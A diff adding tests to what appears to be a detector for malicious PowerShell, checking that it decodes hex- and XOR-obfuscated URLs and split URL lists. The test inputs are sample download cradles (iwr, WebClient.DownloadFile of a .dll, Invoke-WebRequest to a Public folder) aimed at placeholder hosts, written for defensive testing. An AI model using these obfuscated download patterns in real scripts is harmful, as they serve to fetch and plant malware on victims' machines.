@@ -190,3 +190,21 @@ test('an ordinary admin script stays benign', async () => {
   );
   assert.equal(buildReport(run).verdict, 'benign', JSON.stringify(run.findings.map((f) => [f.id, f.score])));
 });
+
+test('hex strings and XOR-encoded char codes are decoded', async () => {
+  const hex = Buffer.from(URL_1).toString('hex');
+  const viaHex = await analyze(`$u = -join ('${hex}' -split '(..)' | ? { $_ } | % { [char][Convert]::ToInt32($_, 16) }); iwr $u`);
+  assertPayload(viaHex, URL_1);
+  const key = 0x37;
+  const xored = Array.from(URL_1, (c) => c.charCodeAt(0) ^ key).join(',');
+  const viaXor = await analyze(`$u = -join ((${xored}) | % { [char]($_ -bxor ${key}) }); (New-Object Net.WebClient).DownloadFile($u, "$env:PUBLIC\\x.dll")`);
+  assertPayload(viaXor, URL_1);
+  assert.ok(ids(viaXor).has('powershell.obfuscation.xor'), 'xor');
+});
+
+test('URL lists split with -split on a character class are all payload URLs', async () => {
+  const urls = ['http://one.example.test/a', 'http://two.example.test/b', 'http://three.example.test/c'];
+  const run = await analyze(`$l = '${urls[0]}|${urls[1]};${urls[2]}' -split '[|;,]'; foreach ($x in $l) { try { Invoke-WebRequest $x -OutFile C:\\Users\\Public\\p.dat; break } catch { } }`);
+  for (const url of urls) assertPayload(run, url);
+  assert.ok(ids(run).has('powershell.download.url-list'), 'url-list');
+});
